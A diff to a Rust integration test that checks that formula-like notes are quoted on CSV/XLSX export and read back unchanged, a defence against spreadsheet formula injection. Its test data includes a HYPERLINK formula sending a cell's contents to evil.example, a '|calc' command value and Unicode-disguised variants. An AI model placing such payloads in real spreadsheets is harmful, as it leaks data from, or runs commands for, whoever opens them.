@@ -207,8 +207,20 @@ async fn row_error_reports_list_the_first_hundred_and_count_all(backend: Backend
 
 async fn formula_like_text_is_exported_quoted_and_reads_back_unchanged(backend: Backend) {
     let app = spawn_app(backend).await;
-    let f = fixture(&app, 6).await;
-    let notes = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1", "-x", "@x", "\tx", "普通の備考"];
+    let f = fixture(&app, 10).await;
+    let notes = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+        "+1",
+        "-x",
+        "@x",
+        "\tx",
+        "＝1+1",
+        "\u{200B}=1+1",
+        " \u{FEFF}＠x",
+        "|calc",
+        "普通の備考",
+    ];
+    let last = notes.len() - 1;
     // Notes go in through an import: the API trims a note, a file keeps it exactly (a leading tab).
     let mut writer = csv::Writer::from_writer(Vec::new());
     writer.write_record(["指標ID", "年度", "実績", "備考"]).unwrap();
@@ -218,7 +230,7 @@ async fn formula_like_text_is_exported_quoted_and_reads_back_unchanged(backend: 
         writer.write_record([indicator.to_string().as_str(), "2021", value, note]).unwrap();
     }
     let created = ok(upload(&app, &f, "text/csv", writer.into_inner().unwrap(), false).await).await;
-    assert_eq!(created["counts"]["create"], 6, "{created}");
+    assert_eq!(created["counts"]["create"], 10, "{created}");
     for indicator in &f.indicators {
         let review = json!({"action": "approve"});
         ok(app.post(&format!("/indicators/{indicator}/actuals/2021/review"), &app.hq, &review).await).await;
@@ -237,14 +249,14 @@ async fn formula_like_text_is_exported_quoted_and_reads_back_unchanged(backend: 
         let record = records.iter().find(|r| r[column("指標ID")] == indicator.to_string()).unwrap();
         (record[column("備考")].to_owned(), record[column("進捗率(%)")].to_owned())
     };
-    for (indicator, note) in f.indicators.iter().zip(notes).take(5) {
+    for (indicator, note) in f.indicators.iter().zip(notes).take(last) {
         assert_eq!(note_of(*indicator).0, format!("'{note}"), "a formula-like note is quoted");
     }
-    assert_eq!(note_of(f.indicators[5]), ("普通の備考".to_owned(), "-50.0".to_owned()), "numbers stay numbers");
+    assert_eq!(note_of(f.indicators[last]), ("普通の備考".to_owned(), "-50.0".to_owned()), "numbers stay numbers");
 
     for (content_type, file) in [("text/csv", csv_bytes), (XLSX, export("xlsx").await)] {
         let report = ok(upload(&app, &f, content_type, file, false).await).await;
-        assert_eq!(report["counts"], json!({"create": 0, "correct": 0, "unchanged": 6}), "{content_type}: {report}");
+        assert_eq!(report["counts"], json!({"create": 0, "correct": 0, "unchanged": 10}), "{content_type}: {report}");
     }
     for (indicator, note) in f.indicators.iter().zip(notes) {
         let stored = ok(app.get(&format!("/indicators/{indicator}/actuals/2021"), &app.hq).await).await;
